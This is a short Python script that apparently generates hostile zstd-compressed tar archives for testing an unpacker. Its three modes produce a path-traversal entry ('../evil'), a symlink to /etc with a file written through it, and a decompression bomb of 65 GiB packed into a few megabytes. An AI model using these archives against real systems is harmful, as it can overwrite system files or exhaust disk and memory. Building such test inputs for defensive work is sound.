#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Writes a bundle (tar in zstd) that no packer makes: hostile.py climb|link|bomb"""
import io
import struct
import sys
import tarfile

BLOCK = 1 << 17  # the most that a block of zstd may hold


def member(name, kind=tarfile.REGTYPE, link="", size=0):
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.size, info.mode = kind, link, size, 0o644
    return info.tobuf(tarfile.PAX_FORMAT)


def block(kind, size, data, last=False):
    return struct.pack("<I", last | kind << 1 | size << 3)[:3] + data


def main(kind):
    tar = io.BytesIO(member("harmless", size=0))
    tar.seek(0, io.SEEK_END)
    zeros = 0
    if kind == "climb":
        tar.write(member("../evil"))
    elif kind == "link":
        tar.write(member("evil", tarfile.SYMTYPE, "/etc"))
        tar.write(member("evil/evil"))
    else:  # 65 GiB of zeros in 2 MiB
        zeros = 65 << 30
        tar.write(member("evil", size=zeros))
    out = sys.stdout.buffer
    out.write(struct.pack("<IBB", 0xFD2FB528, 0, 0x58))
    out.write(block(0, tar.tell(), tar.getvalue()))
    for _ in range(zeros // BLOCK):
        out.write(block(1, BLOCK, b"\0"))
    out.write(block(1, 1024, b"\0", last=True))


main(sys.argv[1])
